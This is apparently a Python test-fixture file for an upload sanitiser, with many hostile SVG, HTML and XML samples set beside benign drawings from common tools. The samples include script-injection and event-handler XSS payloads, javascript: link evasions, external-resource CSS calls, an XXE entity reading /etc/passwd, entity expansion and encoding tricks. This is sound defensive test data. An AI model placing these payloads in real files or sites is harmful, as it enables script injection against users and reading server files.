"""Hostile files that an author may have put beside quizzes, from the known families of payloads, and drawings that harm nobody."""

import base64

RUN = "document.documentElement.setAttribute('ran','1');window.ran=1;try{top.ran=1}catch(e){};alert(1)"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="400" viewBox="0 0 600 400">'
BIG = '<rect width="600" height="400" fill="#eee"'
HTML = f"<script>{RUN}</script>"
XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><head><script>{RUN}</script></head><body/></html>'
DATA = "data:text/html;base64," + base64.b64encode(HTML.encode()).decode()
DATA_SVG = "data:image/svg+xml;base64," + base64.b64encode(f"{SVG}<script>{RUN}</script></svg>".encode()).decode()
ELSEWHERE = "http://elsewhere.example"


def svg(inside: str) -> bytes:
    return f"{SVG}{inside}</svg>".encode()


# By name; those that are left out whole are in REFUSED below.
HOSTILE: dict[str, bytes] = {
    "script.svg": svg(f"<script>{RUN}</script>"),
    "script-cdata.svg": svg(f"<script><![CDATA[{RUN}]]></script>"),
    "script-type.svg": svg(f'<script type="text/ecmascript">{RUN}</script>'),
    "script-module.svg": svg(f'<script type="module">{RUN}</script>'),
    "script-data.svg": svg(f'<script href="data:text/javascript,{RUN}"/>'),
    "script-xlink.svg": svg(f'<script xlink:href="data:text/javascript,{RUN}"/>'),
    "script-file.svg": svg('<script href="helper.js"/>'),
    "script-elsewhere.svg": svg(f'<script href="{ELSEWHERE}/x.js"/>'),
    "script-prefix.svg": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{RUN}</s:script></s:svg>'.encode(),
    "script-html.svg": svg(f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script>'),
    "script-html-default.svg": svg(f'<script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script>'),
    "script-entities.svg": svg(f"<script>{''.join(f'&#{ord(c)};' for c in RUN)}</script>"),
    "script-in-metadata.svg": svg(f"<metadata><script>{RUN}</script></metadata>"),
    "script-in-foreign.svg": svg(f'<x xmlns="urn:x"><script xmlns="http://www.w3.org/2000/svg">{RUN}</script></x>'),
    "script-in-title.svg": svg(f"<title><script>{RUN}</script></title>"),
    "script-in-style.svg": svg(f"<style><script>{RUN}</script></style>"),
    "script-in-defs.svg": svg(f"<defs><script>{RUN}</script></defs>"),
    "script-after-doctype.svg": b'<?xml version="1.0" standalone="no"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">' + svg(f"<script>{RUN}</script>"),
    "script-after-bom.svg": b"\xef\xbb\xbf" + svg(f"<script>{RUN}</script>"),
    "onload.svg": svg("").replace(b"<svg", f'<svg onload="{RUN}"'.encode()),
    "onload-line.svg": svg("").replace(b"<svg", f'<svg\nonload\n=\n"{RUN}"'.encode()),
    "onload-inner.svg": svg(f'<svg onload="{RUN}"/>'),
    "onload-entities.svg": svg("").replace(b"<svg", f'<svg onload="{"".join(f"&#x{ord(c):x};" for c in RUN)}"'.encode()),
    "onclick.svg": svg(f'{BIG} onclick="{RUN}"/>'),
    "onmouseover.svg": svg(f'{BIG} onmouseover="{RUN}"/>'),
    "onfocus.svg": svg(f'<a tabindex="0" autofocus="" onfocus="{RUN}">{BIG}/></a>'),
    "onerror.svg": svg(f'<image href="missing.png" onerror="{RUN}"/>'),
    "onbegin.svg": svg(f'{BIG}><animate attributeName="x" dur="1s" onbegin="{RUN}"/></rect>'),
    "onend.svg": svg(f'{BIG}><set attributeName="x" to="1" dur="0.01s" onend="{RUN}"/></rect>'),
    "onactivate.svg": svg(f'{BIG} onactivate="{RUN}"/>'),
    "link.svg": svg(f'<a href="javascript:{RUN}">{BIG}/></a>'),
    "link-xlink.svg": svg(f'<a xlink:href="javascript:{RUN}">{BIG}/></a>'),
    "link-case.svg": svg(f'<a href="JaVaScRiPt:{RUN}">{BIG}/></a>'),
    "link-blanks.svg": svg(f'<a href=" &#9;java&#10;script&#13;:{RUN}">{BIG}/></a>'),
    "link-control.svg": svg(f'<a href="&#x9;javascript:{RUN}">{BIG}/></a>'),
    "link-data.svg": svg(f'<a href="{DATA}">{BIG}/></a>'),
    "link-prefix.svg": svg(f'<a xmlns:l="http://www.w3.org/1999/xlink" l:href="javascript:{RUN}">{BIG}/></a>'),
    "animate-href.svg": svg(f'<a>{BIG}/><animate attributeName="href" values="javascript:{RUN}"/></a>'),
    "animate-xlink.svg": svg(f'<a>{BIG}/><animate attributeName="xlink:href" from="#" to="javascript:{RUN}" dur="9s" begin="0s"/></a>'),
    "set-href.svg": svg(f'<a href="#">{BIG}/><set attributeName="href" to="javascript:{RUN}"/></a>'),
    "animate-onload.svg": svg(f'{BIG} id="r"><set attributeName="onclick" to="{RUN}"/></rect>'),
    "use-data.svg": svg(f'<use href="{DATA_SVG}#x"/>'),
    "use-file.svg": svg('<use href="script.svg#x"/>'),
    "use-self.svg": svg(f'<use href="#x"/><defs><a id="x" href="javascript:{RUN}">{BIG}/></a></defs>'),
    "image-data-svg.svg": svg(f'<image href="{DATA_SVG}" width="600" height="400"/>'),
    "image-file.svg": svg('<image href="script.svg" width="600" height="400"/>'),
    "image-elsewhere.svg": svg(f'<image href="{ELSEWHERE}/x.png" width="9" height="9"/>'),
    "image-protocol.svg": svg('<image href="//elsewhere.example/x.png" width="9" height="9"/>'),
    "feimage-elsewhere.svg": svg(f'<filter id="f"><feImage href="{ELSEWHERE}/x.png"/></filter>{BIG} filter="url(#f)"/>'),
    "foreign.svg": svg(f'<foreignObject width="600" height="400"><body xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></body></foreignObject>'),
    "foreign-iframe.svg": svg(f'<foreignObject width="600" height="400"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>{RUN}&lt;/script>" src="{DATA}"/></foreignObject>'),
    "foreign-img.svg": svg(f'<foreignObject width="600" height="400"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{RUN}"/></foreignObject>'),
    "foreign-form.svg": svg(f'<foreignObject width="600" height="400"><form xmlns="http://www.w3.org/1999/xhtml" action="javascript:{RUN}"><button style="width:600px;height:400px">x</button></form></foreignObject>'),
    "foreign-meta.svg": svg(f'<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={ELSEWHERE}/"/></foreignObject>'),
    "html-iframe.svg": svg(f'<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>{RUN}&lt;/script>"/>'),
    "html-object.svg": svg(f'<object xmlns="http://www.w3.org/1999/xhtml" data="{DATA}"/>'),
    "html-embed.svg": svg(f'<embed xmlns="http://www.w3.org/1999/xhtml" src="{DATA_SVG}"/>'),
    "html-video.svg": svg(f'<video xmlns="http://www.w3.org/1999/xhtml" onerror="{RUN}"><source src="x"/></video>'),
    "html-link.svg": svg(f'<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{ELSEWHERE}/x.css"/>'),
    "handler.svg": svg(f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{RUN}</handler>'),
    "listener.svg": svg(f'<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="javascript:{RUN}"/>'),
    "style-import.svg": svg(f"<style>@import url({ELSEWHERE}/x.css);</style>"),
    "style-import-escape.svg": svg(f"<style>@\\69mport '{ELSEWHERE}/x.css';</style>"),
    "style-url.svg": svg(f"{BIG} style=\"mask:url({ELSEWHERE}/x.svg#m);cursor:url('{ELSEWHERE}/c.png'),auto\"/>"),
    "style-url-escape.svg": svg(f'{BIG} style="cursor:u\\72l({ELSEWHERE}/c.png),auto"/>'),
    "style-image-set.svg": svg(f"<style>rect{{cursor:image-set('{ELSEWHERE}/c.png' 1x),auto}}</style>{BIG}/>"),
    "style-font.svg": svg(f"<style>@font-face{{font-family:x;src:url({ELSEWHERE}/f.woff)}}</style><text y='90' font-family='x'>x</text>"),
    "style-svg-element.svg": svg("<style>*{fill:url('script.svg#x')}</style>" + BIG + "/>"),
    "attribute-url.svg": svg(f'{BIG} stroke="url({ELSEWHERE}/x.svg#a)" filter="url({ELSEWHERE}/x.svg#f)"/>'),
    "stylesheet.svg": f'<?xml-stylesheet type="text/css" href="{ELSEWHERE}/x.css"?>'.encode() + svg(""),
    "stylesheet-xsl.svg": b'<?xml-stylesheet type="text/xsl" href="sheet.xsl"?>' + svg(""),
    "stylesheet-xsl-data.svg": f'<?xml-stylesheet type="text/xsl" href="data:text/xsl,{XHTML}"?>'.replace('xmlns="', "xmlns='").encode() + svg(""),
    "base.svg": svg(f'<g xml:base="{ELSEWHERE}/"><image href="#x"/></g>'),
}

REFUSED: dict[str, bytes] = {
    "entity.svg": f'<!DOCTYPE svg [<!ENTITY x "&#60;script>{RUN}&#60;/script>">]>'.encode() + svg("&x;"),
    "entity-attribute.svg": f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>'.encode() + svg(""),
    "entity-file.svg": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<text y='9'>&x;</text>"),
    "laughs.svg": b'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + svg("<text>&b;</text>"),
    "utf-16.svg": svg(f"<script>{RUN}</script>").decode().encode("utf-16"),
    "utf-7.svg": b'<?xml version="1.0" encoding="UTF-7"?>' + svg(f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"),
    "xhtml.svg": XHTML.encode(),
    "html.svg": HTML.encode(),
    "unclosed.svg": f"{SVG}<g><script>{RUN}</script>".encode(),
    "no-namespace.svg": f"<svg><script xmlns='http://www.w3.org/2000/svg'>{RUN}</script></svg>".encode(),
    "two-roots.svg": svg("") + XHTML.encode(),
    "packed.svg": b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + bytes(40),
    "packed.svgz": b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + bytes(40),
    "plain.svgz": svg(f"<script>{RUN}</script>"),
    "page.html": HTML.encode(),
    "page.htm": HTML.encode(),
    "capitals.HTML": HTML.encode(),
    "page.xhtml": XHTML.encode(),
    "page.xht": XHTML.encode(),
    "page.xml": XHTML.encode(),
    "drawing.xml": svg(f"<script>{RUN}</script>"),
    "sheet.xsl": f'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">{XHTML}</xsl:template></xsl:stylesheet>'.encode(),
    "styled.xml": b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="sheet.xsl"?><x/>',
    "feed.rss": XHTML.encode(),
    "feed.atom": XHTML.encode(),
    "graph.rdf": XHTML.encode(),
    "formula.mml": f'<math xmlns="http://www.w3.org/1998/Math/MathML"><h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script></math>'.encode(),
    "window.xul": XHTML.encode(),
    "page.html.xyz": HTML.encode(),
    "page.html.gz": HTML.encode(),
    "page.shtml": HTML.encode(),
    "page.php": b"<?php echo 1 ?>" + HTML.encode(),
    "page.mhtml": b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML.encode(),
    "helper.js": RUN.encode(),
    "helper.mjs": RUN.encode(),
    "film.swf": b"CWS" + bytes(40),
    "drawing.png": svg(f"<script>{RUN}</script>"),
    "page.png": HTML.encode(),
    "page.jpg": b"\xef\xbb\xbf" + HTML.encode(),
    "page.gif": b" \r\n\t" + HTML.encode(),
    "page.pdf": HTML.encode(),
    "page.css": HTML.encode(),
    "page.json": HTML.encode(),
    "page.csv": HTML.encode(),
    "page.mp3": XHTML.encode(),
    "page": HTML.encode(),
    "page.unknown": HTML.encode(),
    "late.unknown": b"x\n" + HTML.encode(),
    "utf-16.unknown": HTML.encode("utf-16"),
    "page.zip": HTML.encode(),
}

# Stays as it is: nobody takes it for a page.
COPIED: dict[str, bytes] = {
    "page.txt": HTML.encode(),
    "polyglot.gif": b"GIF89a/*" + bytes(40) + b"*/=1;" + HTML.encode(),
}

# Drawings as the usual programs write them.
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFUlEQVR4nGP8z8DAwMDAxMDAwMDAAAANHQEDasKb6QAAAABJRU5ErkJggg=="
DRAWINGS: dict[str, bytes] = {
    "inkscape.svg": f"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="100mm" height="80mm" viewBox="0 0 100 80" version="1.1" id="svg5" inkscape:version="1.2.2"
   sodipodi:docname="a.svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff" inkscape:document-units="mm" />
  <defs id="defs2">
    <linearGradient id="linearGradient1"><stop style="stop-color:#ff0000;stop-opacity:1;" offset="0" id="stop1" />
      <stop style="stop-color:#0000ff;stop-opacity:1;" offset="1" id="stop2" /></linearGradient>
    <linearGradient inkscape:collect="always" xlink:href="#linearGradient1" id="linearGradient3" x1="10" y1="10" x2="60" y2="60" gradientUnits="userSpaceOnUse" />
    <clipPath clipPathUnits="userSpaceOnUse" id="clip"><circle cx="40" cy="40" r="28" id="c" /></clipPath>
    <filter id="blur" inkscape:label="Blur" x="-0.1" y="-0.1" width="1.2" height="1.2"><feGaussianBlur stdDeviation="0.8" id="f" /></filter>
    <marker style="overflow:visible" id="Arrow" refX="0" refY="0" orient="auto-start-reverse" inkscape:stockid="Arrow" markerWidth="5" markerHeight="7" viewBox="0 0 5 7" preserveAspectRatio="xMidYMid">
      <path transform="scale(0.7)" d="M -2,-4 9,0 -2,4 z" style="fill:context-stroke;fill-rule:evenodd;stroke:none" id="m" /></marker>
  </defs>
  <metadata id="metadata5"><rdf:RDF><cc:Work rdf:about=""><dc:title xmlns:dc="http://purl.org/dc/elements/1.1/">T</dc:title></cc:Work></rdf:RDF></metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <rect style="fill:url(#linearGradient3);fill-opacity:1;stroke:#000000;stroke-width:0.5;filter:url(#blur)" id="rect1" width="60" height="50" x="10" y="10" clip-path="url(#clip)" />
    <path style="fill:none;stroke:#00aa00;stroke-width:1;marker-end:url(#Arrow)" d="M 60,70 80,20" id="p" sodipodi:nodetypes="cc" />
    <text xml:space="preserve" style="font-style:normal;font-size:8px;line-height:1.25;font-family:sans-serif" x="20" y="70" id="t"><tspan sodipodi:role="line" id="ts" x="20" y="70" style="stroke-width:0.2">A  &amp; B</tspan></text>
    <use x="0" y="0" xlink:href="#p" id="u" transform="translate(10,-5)" width="100%" height="100%" />
    <image width="10" height="10" preserveAspectRatio="none" style="image-rendering:optimizeSpeed" xlink:href="data:image/png;base64,{PIXEL}" id="i" x="80" y="60" />
  </g>
</svg>
""".encode(),
    "graphviz.svg": b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
 "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<!-- Generated by graphviz version 2.43.0 (0)
 -->
<!-- Title: G Pages: 1 -->
<svg width="134pt" height="116pt"
 viewBox="0.00 0.00 134.00 116.00" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<g id="graph0" class="graph" transform="scale(1 1) rotate(0) translate(4 112)">
<title>G</title>
<polygon fill="white" stroke="transparent" points="-4,4 -4,-112 130,-112 130,4 -4,4"/>
<!-- a -->
<g id="node1" class="node"><title>a</title>
<g id="a_node1"><a xlink:href="https://example.org/?a=1&amp;b=2" xlink:title="a" target="_blank">
<ellipse fill="lightgrey" stroke="black" cx="27" cy="-90" rx="27" ry="18"/>
<text text-anchor="middle" x="27" y="-86.3" font-family="Times,serif" font-size="14.00">a</text>
</a></g></g>
<!-- a&#45;&gt;b -->
<g id="edge1" class="edge"><title>a&#45;&gt;b</title>
<path fill="none" stroke="black" stroke-dasharray="5,2" d="M27,-71.7C27,-63.98 27,-54.71 27,-46.11"/>
<polygon fill="black" stroke="black" points="30.5,-46.1 27,-36.1 23.5,-46.1 30.5,-46.1"/></g>
</g></svg>
""",
    "d2.svg": b"""<?xml version="1.0" encoding="utf-8"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" data-d2-version="0.6.9" preserveAspectRatio="xMinYMin meet" viewBox="0 0 256 434"><svg class="d2-1 d2-svg" width="256" height="434" viewBox="-101 -101 256 434"><rect x="-101" y="-101" width="256" height="434" rx="0" fill="#FFFFFF" class=" fill-N7" stroke-width="0" /><style type="text/css"><![CDATA[
.d2-1 .text-bold { font-family: "d2-1-font-bold"; }
@font-face { font-family: d2-1-font-bold; src: url("data:application/font-woff;base64,d09GRgABAAAAAA=="); }
.shape { shape-rendering: geometricPrecision; stroke-linejoin: round; } .connection { stroke-linecap: round; }
.d2-1 .fill-N1{fill:#0A0F25;} .d2-1 .fill-B6{fill:#F7F8FE;} .d2-1 .stroke-B1{stroke:#0D32B2;}
@media screen and (prefers-color-scheme:dark){.d2-1 .fill-N1{fill:#CDD6F4;}}
@keyframes dashdraw { from { stroke-dashoffset: 0; } }
.light-code{display: block} .a::before{content:"\\201C"}]]></style><g id="x"><g class="shape"><rect x="0" y="0" width="53" height="66" class=" stroke-B1 fill-B6" style="stroke-width:2;" /></g><text x="26.5" y="38.5" class="text-bold fill-N1" style="text-anchor:middle;font-size:16px">x</text></g><g id="(x -&gt; y)[0]"><marker id="mk" markerWidth="10" markerHeight="12" refX="7" refY="6" viewBox="0 0 10 12" orient="auto" markerUnits="userSpaceOnUse"><polygon points="0,0 10,6 0,12" fill="#0D32B2" class="connection fill-B1" stroke-width="2" /></marker><path d="M 26.5 68 C 26.5 106 26.5 126 26.5 162" fill="none" stroke="#0D32B2" class="connection" style="stroke-width:2;" marker-end="url(#mk)" mask="url(#d2-1)" /></g><mask id="d2-1" maskUnits="userSpaceOnUse" x="-101" y="-101" width="256" height="434"><rect x="-101" y="-101" width="256" height="434" fill="white"></rect></mask></svg></svg>
""",
    "hand.svg": f"""<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 200 100' role='img' aria-label='x'>
<style>.a{{fill:#c33;stroke:rgb(0 0 0 / .5)}} text{{font:italic 12px serif}} /* end */</style>
<symbol id='s' viewBox='0 0 10 10'><path class='a' d='M0 0h10v10z'/></symbol>
<radialGradient id='r'><stop offset='0' stop-color='gold'/><stop offset='1' stop-color='green'/></radialGradient>
<pattern id='p' width='8' height='8' patternUnits='userSpaceOnUse'><circle cx='4' cy='4' r='2'/></pattern>
<rect width='60' height='60' fill='url(#r)'/><rect x='70' width='60' height='60' fill="url('#p')"/>
<use href='#s' x='140' width='40' height='40'/><path id='way' d='M10 80q40 -20 90 0' fill='none'/>
<text><textPath href='#way'>along &lt;a&gt; path</textPath></text>
<switch><text systemLanguage='xx' y='90'>no</text><text x='150' y='90'>yes</text></switch>
<image x='150' y='60' width='20' height='20' href='data:image/png;base64,{PIXEL}'/></svg>""".encode(),
}
